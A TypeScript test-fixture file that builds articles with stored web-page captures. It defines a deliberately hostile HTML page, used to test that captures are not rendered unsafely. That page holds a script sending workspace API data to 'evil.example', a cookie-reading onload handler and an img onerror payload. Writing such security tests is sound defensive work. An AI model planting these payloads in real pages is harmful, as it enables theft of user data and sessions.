import "server-only";
import { randomBytes } from "node:crypto";
import { getDb } from "@/lib/db/client";
import { recordCapture, type NewCapture } from "@/lib/data/articles/captures";
import { hashBody } from "@/lib/formats/body-hash";
import { createTestArticle } from "./data";

// An article with a kept capture of its web page, written directly: for tests of what is done with
// captures (showing, serving, exporting), not of how pages are fetched or clipped.

/** A captured page that would run scripts if a browser ever rendered it on the app's origin. */
export const HOSTILE_PAGE = `<!doctype html><html><head><title>Captured</title><script>fetch("/api/v1/workspaces").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></head><body onload="alert(document.cookie)"><p>About 12 million people lived under the group's rule.</p><img src=x onerror="alert(1)"></body></html>`;

export async function createTestCapture({ workspaceId, articleId, body, capture = {}, actorId = null }: {
  workspaceId: string; articleId: string; body: string; capture?: Partial<NewCapture>; actorId?: string | null;
}) {
  return getDb().$transaction((tx) =>
    recordCapture(tx, {
      workspaceId,
      articleId,
      actorId,
      capture: {
        method: "FETCH", requestedUrl: `http://news.example/${randomBytes(4).toString("hex")}`, finalUrl: "https://www.news.example/story", httpStatus: 200,
        contentType: "text/html; charset=utf-8", charset: "utf-8", bytes: new TextEncoder().encode(HOSTILE_PAGE), body, title: "Captured", applied: true, ...capture,
      },
    }),
  );
}

/** A new article of the workspace with one applied capture (its current one). */
export async function createTestCapturedArticle(workspaceId: string, capture: Partial<NewCapture> = {}, actorId: string | null = null) {
  const body = `About 12 million people lived under the group's rule. ${randomBytes(6).toString("hex")}`;
  const article = await createTestArticle(workspaceId, body);
  // The article's text is its capture's, as after an import from the web (claims cite the capture only then).
  await getDb().article.update({ where: { id: article.id }, data: { bodyHash: hashBody(body) } });
  const stored = await createTestCapture({ workspaceId, articleId: article.id, body, capture, actorId });
  return { articleId: article.id, captureId: stored.id, sha256: stored.sha256, body };
}
